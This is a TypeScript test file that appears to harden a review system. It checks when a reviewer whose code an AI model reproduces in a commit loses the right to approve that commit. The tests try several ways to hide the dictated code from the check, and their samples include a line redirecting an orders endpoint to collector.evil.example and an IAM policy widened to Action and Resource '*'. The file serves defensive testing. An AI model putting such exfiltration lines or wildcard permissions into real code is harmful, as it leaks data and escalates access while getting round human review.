// Attacker pass 9m (test-only) on who counts as a pusher of a feedback commit
// (src/core/feedback/suggestion-authors.ts and dictated-code-lines.ts, fixed after 9l): a reviewer
// whose code the commit carries is a pusher, whose approval the pusher rule sets aside. Attacked:
// the same dictation written so the reader does not see it as code (no backticks, HTML <code>),
// a dangerous block made of lines each under the 20-character bound, and the model reproducing the
// dictated code with other spacing.
// Fixed: dictated-code-lines.ts reads the feedback as GitHub shows it (any line, not only code),
// compares without spacing, and counts a block of consecutive added lines as a whole.
import { describe, expect, it } from '@jest/globals';
import type { ReviewFeedback } from '../../../src/core/feedback/review-feedback.js';
import { suggestionAuthors } from '../../../src/core/feedback/suggestion-authors.js';

const FILE = 'src/handler.ts';
const TEXT = "export const target = 'https://api.internal/orders';\n";
const DICTATED = "export const target = 'https://collector.evil.example/orders';";
const BOB = { login: 'writer-bob', type: 'User', id: 7202 };
const BEFORE = new Map([[FILE, TEXT]]);

const bodyReview = (body: string): ReviewFeedback => ({
  source: 'changes_requested_review',
  id: 80,
  author: BOB,
  body,
  comments: [],
});
/** The logins `suggestionAuthors` names when the commit writes `after` to FILE for feedback `body`. */
const authorsFor = (body: string, after: string, file = FILE, before = BEFORE) =>
  suggestionAuthors({
    feedback: [bodyReview(body)],
    plan: { replies: [], files: new Map([[file, after]]) },
    current: before,
  }).map((author) => author.login);

describe('attacker 9m: dictated code the reader does not see as code', () => {
  it('control: the line in a code span, committed word for word, makes its author a pusher', () => {
    expect(authorsFor(`Replace line 1 with \`${DICTATED}\``, `${DICTATED}\n`)).toEqual([BOB.login]);
  });

  it('fixed (was FAULT): the same line dictated without backticks, committed word for word, leaves its author free to approve', () => {
    expect(authorsFor(`Replace line 1 with exactly this line:\n\n${DICTATED}`, `${DICTATED}\n`)).toEqual([
      BOB.login,
    ]);
  });

  it('fixed (was FAULT): the same line dictated in HTML <code> (GitHub renders it as code) is not read as dictated', () => {
    expect(authorsFor(`Replace line 1 with <code>${DICTATED}</code>`, `${DICTATED}\n`)).toEqual([BOB.login]);
  });
});

describe('attacker 9m: dictated blocks of short lines', () => {
  const POLICY = 'infra/template.json';
  const before = new Map([
    [POLICY, '{\n  "Effect": "Allow",\n  "Action": "s3:GetObject",\n  "Resource": "arn:aws:s3:::b/*"\n}\n'],
  ]);
  const after = '{\n  "Effect": "Allow",\n  "Action": "*",\n  "Resource": "*"\n}\n';

  it('refused: one short line (`return null;`) on its own is not dictation', () => {
    expect(authorsFor('Add `return null;` at the end.', `${TEXT}return null;\n`)).toEqual([]);
  });

  it('fixed (was FAULT): a dictated block whose every line is under 20 characters ("Action": "*", "Resource": "*"), committed as written, leaves its author free to approve', () => {
    const body = 'Widen the statement to this:\n```json\n"Action": "*",\n"Resource": "*"\n```';
    expect(authorsFor(body, after, POLICY, before)).toEqual([BOB.login]);
  });
});

describe('attacker 9m: dictated code reproduced with other spacing', () => {
  it("fixed (was FAULT): a dictated line the model writes with other spacing between its tokens is not the reviewer's code", () => {
    const dictated = 'export const target="https://collector.evil.example/orders";';
    expect(
      authorsFor(
        `Use \`${dictated}\``,
        `${DICTATED.replace("'https://collector.evil.example/orders'", '"https://collector.evil.example/orders"')}\n`,
      ),
    ).toEqual([BOB.login]);
  });
});

describe('fixed 9m: more dictation of each kind, and what stays free', () => {
  it('a line dictated inside prose (no line of its own) and written word for word is dictation', () => {
    expect(authorsFor(`Please change it to ${DICTATED} and push.`, `${DICTATED}\n`)).toEqual([BOB.login]);
  });

  it('a line dictated with HTML entities (&#39;) is read as GitHub shows it', () => {
    const encoded = DICTATED.replace(/'/g, '&#39;');
    expect(authorsFor(`Use this:\n\n${encoded}`, `${DICTATED}\n`)).toEqual([BOB.login]);
  });

  it('a dictated block around a line the file already had still counts its added lines', () => {
    const POLICY = 'infra/policy.json';
    const before = new Map([
      [POLICY, '{\n"Effect": "Allow",\n"Action": "s3:GetObject",\n"Resource": "b"\n}\n'],
    ]);
    const body = '```json\n"Action": "*",\n"Effect": "Allow",\n"Resource": "*"\n```';
    const after = '{\n"Action": "*",\n"Effect": "Allow",\n"Resource": "*"\n}\n';
    expect(authorsFor(body, after, POLICY, before)).toEqual([BOB.login]);
  });

  it('code in an HTML comment (not shown, not sent to a model) is not dictation', () => {
    expect(authorsFor(`Point it elsewhere. <!-- ${DICTATED} -->`, `${DICTATED}\n`)).toEqual([]);
  });

  it('lines of closing braces the model adds do not make a reviewer who wrote braces a pusher', () => {
    const body = 'Close the blocks:\n```ts\n}\n}\n}\n```';
    expect(authorsFor(body, `${TEXT}}\n}\n}\n`)).toEqual([]);
  });

  it('naming an identifier in prose does not make the line the model writes around it dictated', () => {
    const body = 'Read the table name from `process.env.ORDERS_TABLE_NAME` instead.';
    expect(authorsFor(body, `${TEXT}const table = process.env.ORDERS_TABLE_NAME ?? 'orders';\n`)).toEqual([]);
  });

  it('a short dictated block (under 20 non-space characters together) is not dictation', () => {
    const body = '```\nif (!x)\nreturn;\n```';
    expect(authorsFor(body, `${TEXT}if (!x)\n  return;\n`)).toEqual([]);
  });

  it('a line the file already had is not dictated, however long', () => {
    expect(authorsFor(`Keep \`${TEXT.trim()}\``, `${TEXT}// more\n`)).toEqual([]);
  });
});
